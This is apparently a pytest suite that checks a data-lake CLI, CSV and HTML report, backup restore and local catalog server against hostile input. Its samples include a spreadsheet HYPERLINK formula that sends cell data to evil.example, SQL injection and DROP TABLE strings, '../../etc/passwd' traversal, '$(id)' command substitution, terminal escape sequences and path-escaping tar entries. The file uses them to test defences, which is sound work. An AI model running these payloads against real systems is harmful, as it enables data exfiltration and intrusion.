"""Hostile input at the surfaces that people meet: commands, spreadsheets, terminals, files, local ports.

What the source itself may send (bombs, depth, redirects, odd ids) is in `unit/wistia`; names in the report
are in `dashboard/test_report.py`.
"""

import csv
import http.client
import io
import os
import tarfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx2
import pytest

from support.commands import call
from support.lake import START, Lake, Scenario
from support.some import some
from wistia_simulator import MediaChange, Profile
from wistia_simulator.main import Serving, build, running
from wistlake.adapters.local import rest_catalog
from wistlake.adapters.local.published_catalog import PublishedCatalog
from wistlake.errors import ConfigError, StoreError

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
ORDERS = "\x1b]0;owned\x07\x9b31mtitle\u202edesrever\u2066\n2026-03-02 [error] forged\u2028\x85"
ACTING = set("\x1b\x07\x9b\u202e\u2066\u2028\x85")
INJECTIONS = (
    "x' OR 1=1 --",
    "x'); DROP TABLE silver.fact_events; --",
    "../../etc/passwd",
    "..%2f..",
    "a/b",
    "a\nb",
    "aé1234",
    "$(id)",
)


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """One day of an account whose media are named to do harm."""
    before = START - timedelta(days=1)
    names = (MediaChange(0, before, "rename", FORMULA), MediaChange(1, before, "rename", ORDERS))
    profile = Profile(media=2, sessions_per_day=5, history_days=3, changes=names)
    made = Lake(tmp_path_factory.mktemp("hostile") / "lake", Scenario(profile, settings={"lookback_days": 1}))
    made.run_day(START)
    return made


@pytest.fixture
def here(lake: Lake, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working folder whose settings point to the lake; nobody answers at the source's address."""
    monkeypatch.chdir(tmp_path)
    for name, value in {
        "WISTIA_API_TOKEN": "simulated",
        "WISTIA_BASE_URL": "http://127.0.0.1:9/modern",
        "WISTLAKE_LAKE": str(lake.folder),
        "MEDIA_IDS": "all",
    }.items():
        monkeypatch.setenv(name, value)
    return tmp_path


class TestMediaArguments:
    @pytest.mark.engine
    @pytest.mark.parametrize("text", INJECTIONS)
    @pytest.mark.parametrize(
        "command",
        [
            ("run", "--media"),
            ("plan", "--media"),
            ("backfill", "--from", "2026-03-01", "--media"),
            ("repair", "--media"),
            ("report", "--media"),
            ("revisions", "--media"),
            ("explain", "fact_media_daily", "--date", "2026-03-01", "--media"),
            ("media", "add"),
            ("media", "retire"),
        ],
        ids=lambda c: c[0] + c[-1],
    )
    def test_anything_but_an_id_is_refused(
        self, command: tuple[str, ...], text: str, here: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert call(*command, text) == 2
        assert "hashed id" in capsys.readouterr().err
        assert not list(here.iterdir())

    @pytest.mark.parametrize("text", [t for t in INJECTIONS if "," not in t])
    def test_nor_does_a_setting_take_it(
        self, text: str, monkeypatch: pytest.MonkeyPatch, here: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.setenv("MEDIA_IDS", text)
        assert call("plan") == 2
        assert "MEDIA_IDS holds " in capsys.readouterr().err


@pytest.mark.engine
class TestNames:
    QUERY = "SELECT title, numeric_id * -1 AS n FROM silver.dim_media ORDER BY title"

    def test_a_spreadsheet_gets_no_formula(self, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
        assert call("query", self.QUERY, "--format", "csv") == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        titles = {row[0] for row in rows[1:]}
        assert f"'{FORMULA}" in titles
        assert FORMULA not in titles
        assert all(row[1].startswith("-") for row in some(rows[1:])), "numbers are left alone"

    @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠"])
    def test_whatever_begins_one(self, begin: str) -> None:
        from wistlake_dashboard.spreadsheet import to_csv

        (head, row) = csv.reader(
            io.StringIO(to_csv([f"{begin}x"], [{f"{begin}x": f"{begin}1+1"}]), newline="")
        )
        assert head[0].startswith("'")
        assert row[0].startswith("'")

    def test_no_value_begins_a_row(self) -> None:
        from wistlake_dashboard.spreadsheet import to_csv

        text = to_csv(["x"], [{"x": "a\r=1+1"}, {"x": "b\r\n=1+1"}, {"x": "c\n=1+1"}])
        assert list(csv.reader(io.StringIO(text, newline=""))) == [
            ["x"],
            ["a =1+1"],
            ["b =1+1"],
            ["c =1+1"],
        ]

    def test_a_terminal_gets_no_orders(self, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
        for form in ("table", "csv", "json"):
            assert call("query", self.QUERY, "--format", form) == 0
            said = capsys.readouterr().out
            assert "owned" in said
            assert not set(said) & ACTING
            assert not [line for line in said.splitlines() if line.startswith("2026-03-02 [error]")]

    def test_nor_does_a_page(self, here: Path) -> None:
        assert call("report", "--out", str(here / "report.html")) == 0
        page = (here / "report.html").read_text(encoding="utf-8")
        assert "owned" in page
        assert not set(page) & ACTING

    def test_a_query_changes_nothing(self, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
        for text in ("DROP TABLE silver.dim_media", "SELECT 1; SELECT 2", "COPY (SELECT 1) TO 'out.csv'"):
            assert call("query", text) == 2
        assert not list(here.iterdir())


class TestFiles:
    @pytest.mark.skipif(os.name != "posix", reason="modes are a POSIX matter")
    def test_an_open_dotenv_is_refused_with_the_cure(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.chdir(tmp_path)
        (tmp_path / ".env").write_text("WISTIA_API_TOKEN=canary0token1\nMEDIA_IDS=abcdef1234\n")
        (tmp_path / ".env").chmod(0o644)
        assert call("plan") == 2
        said = capsys.readouterr()
        assert f"chmod 600 {tmp_path / '.env'}" in said.err
        assert "canary0token1" not in said.err + said.out
        (tmp_path / ".env").chmod(0o600)
        assert call("plan") == 0

    @pytest.mark.parametrize("name", ["../outside", "/tmp/wistlake-outside", "lake/../../outside"])
    def test_a_backup_can_not_write_elsewhere(self, name: str, tmp_path: Path) -> None:
        from wistlake.adapters.local import lake_archive

        with tarfile.open(tmp_path / "evil.tar", "w") as archive:
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
        with pytest.raises((StoreError, ConfigError)):
            lake_archive.restore(tmp_path / "evil.tar", tmp_path / "lake")
        assert [p.name for p in tmp_path.iterdir()] == ["evil.tar"]
        assert not Path("/tmp/wistlake-outside").exists()


@pytest.mark.engine
class TestCatalog:
    @pytest.fixture
    def uri(self, lake: Lake) -> Iterator[str]:
        with rest_catalog.serve(PublishedCatalog(lake.ledger), read_only=True) as uri:
            yield uri

    def test_it_listens_here_and_under_a_word_nobody_can_guess(self, uri: str) -> None:
        assert urlsplit(uri).hostname == "127.0.0.1"
        assert len(urlsplit(uri).path) > 20
        assert httpx2.get(f"{uri}/v1/namespaces").status_code == 200

    @pytest.mark.parametrize("path", ["/v1/namespaces", "/guess/v1/namespaces", "//v1/namespaces", "/"])
    def test_who_does_not_know_it_sees_nothing(self, uri: str, path: str) -> None:
        root = uri.removesuffix(urlsplit(uri).path)
        answer = httpx2.get(f"{root}{path}")
        assert answer.status_code == 404
        assert "silver" not in answer.text

    @pytest.mark.parametrize(
        "host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:80", ""]
    )
    def test_foreign_hosts_are_refused(self, uri: str, host: str) -> None:
        assert httpx2.get(f"{uri}/v1/namespaces", headers={"Host": host}).status_code == 404

    @pytest.mark.parametrize("length", ["nonsense", "-1", str(10**12)])
    def test_a_length_beyond_reason_is_not_waited_for(self, uri: str, length: str) -> None:
        server = urlsplit(uri)
        connection = http.client.HTTPConnection(server.netloc, timeout=5)
        connection.putrequest("POST", f"{server.path}/v1/namespaces")
        connection.putheader("Content-Length", length)
        connection.endheaders(b"x")
        assert connection.getresponse().status == 404
        connection.close()

    def test_readers_change_nothing(self, uri: str) -> None:
        answer = httpx2.post(f"{uri}/v1/namespaces", json={"namespace": ["x"]})
        assert answer.status_code == 403


def test_recordings_ask_for_a_token(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    from wistia_simulator import main as served

    serving: list[Serving] = []

    class Server:
        def run(self, sockets: Any) -> None:
            """Ends at once."""

    monkeypatch.setattr(served, "build", serving.append)
    monkeypatch.setattr(served, "_server", lambda _app: Server())
    served.serve(Serving(port=0, replay=tmp_path))
    (asked,) = serving
    assert asked.token
    assert len(asked.token) > 16
    assert asked.token in capsys.readouterr().out
    served.serve(Serving(port=0, now=START))
    assert serving[1].token is None


def test_a_served_simulator_refuses_foreign_hosts_and_other_tokens() -> None:
    with running(build(Serving(now=START, token="right"))) as url:
        assert urlsplit(url).hostname == "127.0.0.1"
        for headers, status in (
            ({"Authorization": "Bearer right"}, 200),
            ({"Authorization": "Bearer wrong"}, 401),
            ({"Authorization": "Bearer right", "Host": "evil.example"}, 421),
        ):
            assert httpx2.get(f"{url}/v1/medias", headers=headers).status_code == status
